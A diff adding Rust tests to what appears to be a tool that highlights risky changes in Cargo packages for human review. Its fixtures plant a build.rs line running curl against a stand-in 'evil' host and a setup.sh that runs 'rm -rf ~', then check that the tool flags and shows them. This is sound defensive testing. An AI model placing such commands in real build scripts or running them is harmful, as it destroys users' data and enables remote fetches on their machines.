@@ -851,3 +851,91 @@ fn a_second_manifest_is_the_one_read_and_the_pair_blocks_approve() {
         c.problems
     );
 }
+
+#[test]
+fn the_lines_a_reviewer_must_read_are_shown_added_and_removed() {
+    let manifest = |v: &str, extra: &str| {
+        format!("[package]\nname = \"foo\"\nversion = \"{v}\"\nproc-macro = false\n{extra}")
+    };
+    let old_build = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
+    let new_build = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    \
+                     std::process::Command::new(\"curl\").arg(\"evil\").status().ok();\n}\n";
+    let (m1, m2) = (
+        manifest("0.1.0", ""),
+        manifest("0.2.0", "[dependencies]\nlog = \"0.4\"\n"),
+    );
+    let before = list(
+        &targz(&[
+            file("foo-0.1.0/Cargo.toml", m1.as_bytes()),
+            file("foo-0.1.0/build.rs", old_build.as_bytes()),
+            file("foo-0.1.0/src/lib.rs", b"pub fn f() {}\n"),
+        ])[..],
+        &Limits::default(),
+    );
+    let now = list(
+        &targz(&[
+            file("foo-0.2.0/Cargo.toml", m2.as_bytes()),
+            file("foo-0.2.0/build.rs", new_build.as_bytes()),
+            file("foo-0.2.0/src/lib.rs", b"pub fn f() { changed() }\n"),
+            file("foo-0.2.0/scripts/setup.sh", b"#!/bin/sh\nrm -rf ~\n"),
+        ])[..],
+        &Limits::default(),
+    );
+    let d = diff(&before, &now, "0.1.0", PathBuf::new());
+    let whys: Vec<(&str, &str)> = d
+        .lines
+        .iter()
+        .map(|l| (l.path.as_str(), l.why.as_str()))
+        .collect();
+    // Not src/lib.rs: not a proc-macro, and inside src/.
+    assert_eq!(
+        whys,
+        [
+            ("build.rs", "build script"),
+            ("Cargo.toml", "manifest"),
+            ("scripts/setup.sh", "outside src/")
+        ]
+    );
+    let build = &d.lines[0];
+    assert_eq!((build.added, build.removed), (1, 0));
+    assert!(
+        build
+            .hunks
+            .iter()
+            .any(|h| h.starts_with('+') && h.contains("curl")),
+        "{:?}",
+        build.hunks
+    );
+    let m = &d.lines[1];
+    assert!(
+        m.hunks.contains(&"-version = \"0.1.0\"".to_string()),
+        "{:?}",
+        m.hunks
+    );
+    assert!(
+        m.hunks.contains(&"+log = \"0.4\"".to_string()),
+        "{:?}",
+        m.hunks
+    );
+    // A new file is all added.
+    assert_eq!((d.lines[2].added, d.lines[2].removed), (2, 0));
+}
+
+#[test]
+fn a_long_diff_is_cut_and_says_how_much() {
+    let old: String = (0..2000).map(|i| format!("line {i}\n")).collect();
+    let new: String = (0..2000)
+        .map(|i| format!("line {i} changed {}\n", "x".repeat(300)))
+        .collect();
+    let l = review::line_diff("build.rs", "build script", Some(&old), Some(&new));
+    assert_eq!((l.added, l.removed), (2000, 2000));
+    assert_eq!(l.hunks.len(), review::DIFF_LINES);
+    assert_eq!(l.cut, 4000 - review::DIFF_LINES);
+    assert!(
+        l.hunks
+            .iter()
+            .all(|h| h.chars().count() <= review::DIFF_LINE_CHARS + 2)
+    );
+    let none = review::line_diff("build.rs", "build script", None, None);
+    assert!(none.unavailable.is_some());
+}
